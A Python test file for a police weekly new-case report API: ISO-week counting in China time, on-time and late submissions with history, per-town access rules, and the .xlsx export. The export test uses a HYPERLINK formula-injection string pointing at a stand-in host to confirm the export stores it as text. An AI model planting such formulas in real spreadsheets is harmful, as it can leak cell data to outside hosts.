"""The weekly new-case report (seed 002): figures from the register, ISO weeks in China dates, the
submission on time or late with frozen figures and its history, the county's view of its stations,
and the .xlsx export."""

from __future__ import annotations

from datetime import timedelta

from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlmodel import Session, col

from backend.audit.models import AuditEntry
from backend.core import clock
from tests.police_cases.factories import API, SUNDAY_NIGHT, Station, register
from tests.xlsx_support import read_workbook


def _weekly(st: Station, week: str, who: str = "police", **params: object) -> dict[str, object]:
    resp = st.client.get(f"{API}/police-cases/weekly", params={"week": week, **params}, headers=st.headers(who))
    assert resp.status_code == 200, resp.text
    body: dict[str, object] = resp.json()
    return body


def test_a_case_filed_on_sunday_night_china_time_counts_in_that_week(client: TestClient, session: Session) -> None:
    clock.freeze(SUNDAY_NIGHT)  # Sunday 29 November 2026, 23:30 China time (15:30 UTC)
    st = Station(client, session)
    _, case_id = st.referred_case()
    sunday = register(st, number="W-1", victims=2, category="rape", child_case_ids=[case_id])
    register(st, number="W-0", filed_date="2026-11-23", category="rape")  # Monday of the same week
    register(st, number="W-old", filed_date="2026-11-22")  # the Sunday before: week 47
    assert sunday["filed_date"] == "2026-11-29"
    clock.advance(timedelta(hours=1))  # Monday 00:30 China time, still Sunday in UTC
    monday = register(st, number="W-2", venue_ids=[st.venue().id])
    assert monday["filed_date"] == "2026-11-30"

    w48 = _weekly(st, "2026-W48")
    assert (w48["start_date"], w48["end_date"], w48["cases"], w48["victims"]) == ("2026-11-23", "2026-11-29", 2, 3)
    assert w48["due_at"] == "2026-11-30T12:00:00+08:00"
    by_code = {c["code"]: (c["cases"], c["victims"]) for c in w48["by_category"]}  # type: ignore[attr-defined]
    assert by_code == {"rape": (2, 3), "child_molestation": (0, 0), "forcible_indecency": (0, 0),
                       "child_prostitution": (0, 0), "child_trafficking": (0, 0), "other": (0, 0)}
    assert w48["links"] == {"child_cases": 1, "risk_persons": 0, "venues": 0, "referrals": 0}
    assert [r["case_number"] for r in w48["rows"]] == ["W-0", "W-1"]  # type: ignore[attr-defined]
    assert "summary" not in str(w48)  # counts and numbers only
    w49 = _weekly(st, "2026-W49")
    assert (w49["cases"], w49["links"]) == (1, {"child_cases": 0, "risk_persons": 0, "venues": 1, "referrals": 0})
    assert _weekly(st, "2026-W47")["cases"] == 1
    # Coordinators and the county read it too; another town's police do not.
    assert _weekly(st, "2026-W48", who="county_coordinator", unit_id=st.town.town.id)["cases"] == 2
    neighbour = st.police_of(st.other_town())
    assert client.get(f"{API}/police-cases/weekly", params={"week": "2026-W48", "unit_id": st.town.town.id},
                      headers=neighbour).status_code == 404
    for bad in ("2026-48", "2026-W54", "1999-W01", "2026-W00"):
        resp = client.get(f"{API}/police-cases/weekly", params={"week": bad}, headers=st.headers("police"))
        assert resp.status_code == 422, (bad, resp.text)


def test_submission_on_time_late_missing_and_resubmission(client: TestClient, session: Session) -> None:
    clock.freeze(SUNDAY_NIGHT)
    st = Station(client, session)
    late_town, silent_town = st.other_town("999901"), st.other_town("999902")
    register(st, number="S-1", victims=2)

    # Before the due time nothing is missing yet.
    status = client.get(f"{API}/police-cases/weekly/status", params={"week": "2026-W48"},
                        headers=st.headers("county_coordinator")).json()
    assert [(s["unit_id"], s["state"]) for s in status] == [
        (st.town.town.id, "pending"), (late_town.id, "pending"), (silent_town.id, "pending")]

    clock.advance(timedelta(hours=12))  # Monday 11:30 China time: still on time
    first = client.post(f"{API}/police-cases/weekly/2026-W48/submit", headers=st.headers("police"))
    assert first.status_code == 201, first.text
    body = first.json()
    assert (body["on_time"], body["status"], body["history"]) == (True, "submitted", [])
    assert (body["figures"]["cases"], body["figures"]["victims"]) == (1, 2)
    register(st, number="S-2", filed_date="2026-11-28")  # found after submitting

    clock.advance(timedelta(hours=1))  # Monday 12:30 China time: the due time has passed
    late = client.post(f"{API}/police-cases/weekly/2026-W48/submit", json={"unit_id": late_town.id},
                       headers=st.police_of(late_town))
    assert late.status_code == 201 and late.json()["on_time"] is False
    again = client.post(f"{API}/police-cases/weekly/2026-W48/submit", json={"unit_id": st.town.town.id},
                        headers=st.headers("police")).json()
    assert (again["on_time"], again["history"], again["figures"]["cases"]) == (False, [body["id"]], 2)

    status = client.get(f"{API}/police-cases/weekly/status", params={"week": "2026-W48"},
                        headers=st.headers("county_police")).json()
    states = {s["unit_id"]: s for s in status}
    # The station's first submission came on time: the correction after the due time does not make it late.
    assert (states[st.town.town.id]["state"], states[st.town.town.id]["submissions"],
            states[st.town.town.id]["submission_id"], states[st.town.town.id]["status"]) == (
        "submitted", 2, again["id"], "submitted")
    assert states[late_town.id]["state"] == "late"
    assert (states[silent_town.id]["state"], states[silent_town.id]["submission_id"]) == ("missing", None)
    # A town sees only itself.
    own = client.get(f"{API}/police-cases/weekly/status", params={"week": "2026-W48"},
                     headers=st.headers("police")).json()
    assert [s["unit_id"] for s in own] == [st.town.town.id]
    # The history keeps the frozen figures of each submission.
    history = client.get(f"{API}/police-cases/weekly/2026-W48/submissions", headers=st.headers("police")).json()
    assert [(h["id"], h["figures"]["cases"], h["on_time"]) for h in history] == [
        (body["id"], 1, True), (again["id"], 2, False)]
    # A week that has not started cannot be submitted; another town's station cannot be submitted for.
    ahead = client.post(f"{API}/police-cases/weekly/2026-W50/submit", headers=st.headers("police"))
    assert ahead.status_code == 409 and ahead.json()["code"] == "police-weekly-not-started"
    foreign = client.post(f"{API}/police-cases/weekly/2026-W48/submit", json={"unit_id": silent_town.id},
                          headers=st.headers("police"))
    assert foreign.status_code == 404
    coordinator = client.post(f"{API}/police-cases/weekly/2026-W48/submit", headers=st.headers("coordinator"))
    assert coordinator.status_code == 404  # submitting is the station's (police_case.manage)
    [entry, *_] = session.execute(select(AuditEntry).where(col(AuditEntry.action) == "police_case.weekly_submit")
                                  .order_by(col(AuditEntry.id))).scalars()
    assert entry.details["on_time"] is True and entry.details["week"] == "2026-W48"


def test_the_weekly_report_as_xlsx(client: TestClient, session: Session) -> None:
    clock.freeze(SUNDAY_NIGHT)
    st = Station(client, session)
    register(st, number='=HYPERLINK("http://x.example/?"&A1,"点击")', victims=2, category="rape")
    register(st, number="00123", category="child_trafficking")
    resp = client.get(f"{API}/police-cases/weekly.xlsx", params={"week": "2026-W48"}, headers=st.headers("police"))
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = read_workbook(resp.content)
    assert book.sheetnames == ["汇总", "案件"]
    summary = [[c.value for c in row] for row in book["汇总"].iter_rows()]
    assert summary[0][0].startswith(st.town.town.name) and "2026-W48" in summary[0][0]
    assert summary[1] == ["案件类别", "立案数", "被害人数"]
    assert summary[2] == ["强奸", 1, 2] and summary[6] == ["拐卖儿童", 1, 1] and summary[8] == ["合计", 2, 3]
    cases = list(book["案件"].iter_rows(min_row=3))
    assert [c.value for c in book["案件"][2]] == ["序号", "案件编号", "立案日期", "案件类别", "状态", "被害人数",
                                                  "关联记录数"]
    numbers = {row[1].value: row[1] for row in cases}
    # Typed text stays text: never a formula, a leading zero kept.
    formula = numbers['=HYPERLINK("http://x.example/?"&A1,"点击")']
    assert formula.data_type == "s"
    assert "00123" in numbers
    assert [row[3].value for row in cases] == ["强奸", "拐卖儿童"]
    exported = session.execute(select(AuditEntry).where(col(AuditEntry.action) == "police_case.weekly_export")
                               ).scalars().all()
    assert len(exported) == 1 and exported[0].details["cases"] == 2
